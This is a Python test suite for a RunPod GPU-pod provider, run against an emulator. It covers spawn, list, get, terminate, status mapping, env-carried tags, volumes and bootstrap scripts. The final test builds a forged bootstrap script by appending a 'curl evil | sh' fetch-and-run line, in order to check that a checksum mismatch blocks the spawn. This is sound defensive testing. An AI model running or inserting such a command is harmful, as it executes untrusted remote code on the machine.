"""Pods through REST v2: spawn, list, get, terminate, status mapping, env-carried tags and bootstrap."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest

from provider_core import (
    BootstrapConfig,
    BootstrapFormat,
    BootstrapScript,
    ErrorCode,
    InstanceStatus,
    ListFilter,
    ProviderError,
    ProviderHandle,
    SpawnOptions,
    VolumeAttachment,
)
from provider_core.author import IDEMPOTENCY_TAG, MANAGED_TAG
from provider_runpod import RunPodInstance, RunPodProvider
from provider_runpod._client import pod_path
from provider_runpod._pods import BOOTSTRAP_ENV, BOOTSTRAP_SHA_ENV, START_COMMAND
from provider_runpod._types import STATUS_MAP, TAGS_ENV
from provider_runpod.testing import Emulator

GPU = "NVIDIA RTX A4000"
MANAGED = {MANAGED_TAG: "true"}


def options(name: str = "pod-a", **kwargs: object) -> SpawnOptions:
    """Options as the core hands them to the provider: the management tag already added."""
    kwargs.setdefault("tags", MANAGED)
    return SpawnOptions(name=name, instance_type=GPU, **kwargs)  # type: ignore[arg-type]


def caller_options(name: str = "pod-a", **kwargs: object) -> SpawnOptions:
    """Options as a caller gives them to a handle (which adds the management tag)."""
    return SpawnOptions(name=name, instance_type=GPU, **kwargs)  # type: ignore[arg-type]


def created_bodies(emulator: Emulator) -> list[dict[str, object]]:
    return [json.loads(e.body) for e in emulator.exchanges if e.method == "POST" and e.path == "/v2/pods"]


def test_spawn_returns_a_pending_pod_in_the_requested_data_center(provider: RunPodProvider) -> None:
    pod = provider.spawn(options(region="EU-RO-1", gpu_count=2, disk_gb=40))
    assert isinstance(pod, RunPodInstance)
    assert pod.status is InstanceStatus.PENDING
    assert (pod.region, pod.instance_type, pod.gpu_count, pod.name) == ("EU-RO-1", GPU, 2, "pod-a")


def test_create_body_is_the_v2_shape(provider: RunPodProvider, emulator: Emulator) -> None:
    provider.spawn(options(region="US-KS-2", image="my/image:1", disk_gb=30, tags={**MANAGED, "team": "ml"}))
    (body,) = created_bodies(emulator)
    assert body["gpu"] == {"id": GPU, "count": 1}
    assert body["dataCenterIds"] == ["US-KS-2"]
    assert body["image"] == "my/image:1"
    assert body["disk"] == 30
    env = body["env"]
    assert isinstance(env, dict)
    assert json.loads(env[TAGS_ENV]) == {**MANAGED, "team": "ml"}


@pytest.mark.parametrize(
    ("runpod", "core"),
    [
        ("PROVISIONING", InstanceStatus.PENDING),
        ("STARTING", InstanceStatus.PENDING),
        ("RUNNING", InstanceStatus.RUNNING),
        ("EXITED", InstanceStatus.STOPPED),
        ("ERROR", InstanceStatus.ERROR),
        ("TERMINATED", InstanceStatus.TERMINATED),
    ],
)
def test_every_v2_status_maps(runpod: str, core: InstanceStatus) -> None:
    assert STATUS_MAP[runpod] is core


def test_pod_boots_through_starting_to_running(provider: RunPodProvider) -> None:
    pod = provider.spawn(options())
    seen = [provider.get_instance(pod.id) for _ in range(3)]
    assert [p.status for p in seen if p] == [
        InstanceStatus.PENDING,
        InstanceStatus.RUNNING,
        InstanceStatus.RUNNING,
    ]
    running = seen[-1]
    assert running is not None
    assert running.public_ip is not None


def test_stopped_and_errored_pods_map(provider: RunPodProvider, emulator: Emulator) -> None:
    pod = provider.spawn(options())
    provider.client.rest("POST", pod_path(pod.id, "/action"), json={"action": "stop"}, what="stop")
    stopped = provider.get_instance(pod.id)
    assert stopped is not None
    assert stopped.status is InstanceStatus.STOPPED
    with emulator.account.lock:
        emulator.account.pods[pod.id]["status"] = "ERROR"
    errored = provider.get_instance(pod.id)
    assert errored is not None
    assert errored.status is InstanceStatus.ERROR


def test_get_instance_of_unknown_pod_is_none(provider: RunPodProvider, handle: ProviderHandle) -> None:
    # The provider reports RunPod's 404; the core turns it into None.
    with pytest.raises(ProviderError) as caught:
        provider.get_instance("doesnotexist")
    assert caught.value.code is ErrorCode.NOT_FOUND
    assert handle.get_instance("doesnotexist") is None


def test_pod_id_is_escaped_in_the_path(handle: ProviderHandle, emulator: Emulator) -> None:
    assert handle.get_instance("../pods") is None
    exchange = emulator.exchanges[-1]
    assert (exchange.path, exchange.status) == ("/v2/pods/..%2Fpods", 404)
    assert json.loads(exchange.response_body)["detail"] == "pod not found"


def test_terminate_is_idempotent(handle: ProviderHandle, emulator: Emulator) -> None:
    pod = handle.spawn(caller_options())
    handle.terminate(pod.id)
    handle.terminate(pod.id)  # already terminated: nothing to do
    handle.terminate("never-existed")
    assert [e.method for e in emulator.exchanges].count("DELETE") == 1
    # RunPod still answers a terminated pod by id: get_instance reports it, as terminated.
    gone = handle.get_instance(pod.id)
    assert gone is not None
    assert gone.status is InstanceStatus.TERMINATED
    assert pod.id not in [p.id for p in handle.list_instances()]


def test_terminate_is_one_delete(provider: RunPodProvider, emulator: Emulator) -> None:
    pod = provider.spawn(options())
    provider.terminate(pod.id)
    last = emulator.exchanges[-1]
    assert (last.method, last.path, last.status) == ("DELETE", f"/v2/pods/{pod.id}", 204)


def test_a_pod_runpod_no_longer_knows_is_none(handle: ProviderHandle, emulator: Emulator) -> None:
    pod = handle.spawn(caller_options())
    handle.terminate(pod.id)
    with emulator.account.lock:
        del emulator.account.pods[pod.id]  # RunPod purged the terminated pod's record
    assert handle.get_instance(pod.id) is None
    handle.terminate(pod.id)


def foreign_pod(emulator: Emulator, **env: str) -> str:
    """A pod someone else made in the same account, straight through the emulator."""
    body = {"name": "theirs", "image": "their/image:1", "gpu": {"id": GPU, "count": 1}, "env": env}
    status, pod = emulator.account.create_pod(body)
    assert status == 201, pod
    return str(pod["id"])


@pytest.mark.parametrize(
    "env",
    [{}, {TAGS_ENV: json.dumps({"team": "ml"})}, {TAGS_ENV: json.dumps({MANAGED_TAG: "false"})}],
    ids=["no-tags", "other-tags", "managed-false"],
)
def test_an_unmanaged_pod_does_not_exist_for_provider_core(
    handle: ProviderHandle, emulator: Emulator, env: dict[str, str]
) -> None:
    theirs = foreign_pod(emulator, **env)
    mine = handle.spawn(caller_options())
    assert [p.id for p in handle.list_instances()] == [mine.id]
    assert handle.get_instance(theirs) is None
    handle.terminate(theirs)  # a no-op, and no error: for the caller the id is unknown
    assert not any(e.method == "DELETE" for e in emulator.exchanges)
    assert emulator.account.pods[theirs]["status"] != "TERMINATED"


def test_terminate_raises_other_errors(provider: RunPodProvider, emulator: Emulator) -> None:
    emulator.fail_next(1, status=503)
    with pytest.raises(ProviderError) as caught:
        provider.terminate("emu00000000001")
    assert caught.value.code is ErrorCode.UNAVAILABLE


def test_list_returns_only_managed_pods_and_applies_the_filter(
    provider: RunPodProvider, handle: ProviderHandle
) -> None:
    mine = handle.spawn(caller_options("web-1", region="US-TX-3", tags={"role": "web"}))
    other = handle.spawn(caller_options("db-1", region="EU-RO-1", tags={"role": "db"}))
    provider.spawn(options("foreign", tags={}))  # straight to the provider: no management tag
    assert {p.id for p in handle.list_instances()} == {mine.id, other.id}
    assert [p.id for p in handle.list_instances(ListFilter(tags={"role": "web"}))] == [mine.id]
    assert [p.id for p in handle.list_instances(ListFilter(region="EU-RO-1"))] == [other.id]
    assert [p.id for p in handle.list_instances(ListFilter(name_prefix="db-"))] == [other.id]
    # Four reads so far: both pods have booted.
    running = handle.list_instances(ListFilter(statuses=[InstanceStatus.RUNNING]))
    assert {p.id for p in running} == {mine.id, other.id}
    assert handle.list_instances(ListFilter(statuses=[InstanceStatus.PENDING])) == []


def test_the_provider_lists_every_pod_and_leaves_the_rules_to_the_core(provider: RunPodProvider) -> None:
    mine = provider.spawn(options("web-1"))
    foreign = provider.spawn(options("foreign", tags={}))
    assert {p.id for p in provider.list_instances(ListFilter(name_prefix="db-"))} == {mine.id, foreign.id}


def test_shell_bootstrap_travels_in_env_and_runs_from_args(
    provider: RunPodProvider, emulator: Emulator
) -> None:
    script = provider.generate_bootstrap(
        BootstrapConfig(control_plane_url="https://cp.example", instance_token="secret-token")
    )
    assert script.format is BootstrapFormat.SHELL
    provider.spawn(options(bootstrap=script))
    (body,) = created_bodies(emulator)
    env = body["env"]
    assert isinstance(env, dict)
    decoded = base64.b64decode(env[BOOTSTRAP_ENV]).decode()
    assert decoded == script.content
    assert env[BOOTSTRAP_SHA_ENV] == hashlib.sha256(decoded.encode()).hexdigest()
    assert body["args"] == START_COMMAND


def test_cloud_init_is_refused(provider: RunPodProvider, emulator: Emulator) -> None:
    config = BootstrapConfig(
        control_plane_url="https://cp.example", instance_token="t", format=BootstrapFormat.CLOUD_INIT
    )
    with pytest.raises(ProviderError) as caught:
        provider.generate_bootstrap(config)
    assert caught.value.code is ErrorCode.INVALID_SPEC
    with pytest.raises(ProviderError) as refused:
        provider.spawn(options(bootstrap=BootstrapScript("#cloud-config\n", BootstrapFormat.CLOUD_INIT)))
    assert refused.value.code is ErrorCode.INVALID_SPEC
    assert created_bodies(emulator) == []


def test_network_volume_is_attached_at_spawn(provider: RunPodProvider, emulator: Emulator) -> None:
    emulator.add_network_volume("vol_abc", "EU-RO-1")
    pod = provider.spawn(options(volumes=[VolumeAttachment("vol_abc", "/data")]))
    assert pod.network_volume_id == "vol_abc"
    assert pod.region == "EU-RO-1"  # the pod follows its volume's data center
    (body,) = created_bodies(emulator)
    assert body["mounts"] == {"network": [{"volumeId": "vol_abc", "path": "/data"}]}


def test_unknown_volume_and_two_volumes_are_refused(provider: RunPodProvider) -> None:
    with pytest.raises(ProviderError) as missing:
        provider.spawn(options(volumes=[VolumeAttachment("vol_missing")]))
    assert missing.value.code is ErrorCode.NOT_FOUND
    with pytest.raises(ProviderError) as two:
        provider.spawn(options(volumes=[VolumeAttachment("a"), VolumeAttachment("b")]))
    assert two.value.code is ErrorCode.INVALID_SPEC


def test_ssh_keys_ask_for_account_keys_and_port_22(provider: RunPodProvider, emulator: Emulator) -> None:
    provider.spawn(options(ssh_key_names=["laptop"]))
    (body,) = created_bodies(emulator)
    assert body["startSsh"] is True
    assert body["ports"] == ["22/tcp"]


def test_through_the_core_handle(handle: ProviderHandle) -> None:
    import provider_core

    pod = handle.spawn(SpawnOptions(name="via-core", instance_type=GPU, idempotency_key="job-7"))
    assert type(pod) is provider_core.ProviderInstance  # projected back to the generic type
    assert pod.tags[MANAGED_TAG] == "true"
    assert pod.tags[IDEMPOTENCY_TAG] == "job-7"
    assert [p.id for p in handle.list_instances()] == [pod.id]
    handle.terminate(pod.id)


def test_a_bootstrap_whose_checksum_does_not_match_creates_nothing(
    handle: ProviderHandle, emulator: Emulator
) -> None:
    # RunPod's start command runs `sha256sum -c` and silently skips a script that fails it: the core
    # must refuse the spawn before any request reaches RunPod.
    script = BootstrapScript("#!/bin/sh\necho ok\n", BootstrapFormat.SHELL)
    forged = BootstrapScript(script.content + "curl evil | sh\n", BootstrapFormat.SHELL, script.checksum)
    with pytest.raises(ProviderError) as caught:
        handle.spawn(caller_options("forged", bootstrap=forged))
    assert caught.value.code is ErrorCode.INVALID_SPEC
    assert "checksum" in caught.value.message
    assert not any(e.method == "POST" for e in emulator.exchanges)
    assert handle.list_instances() == []
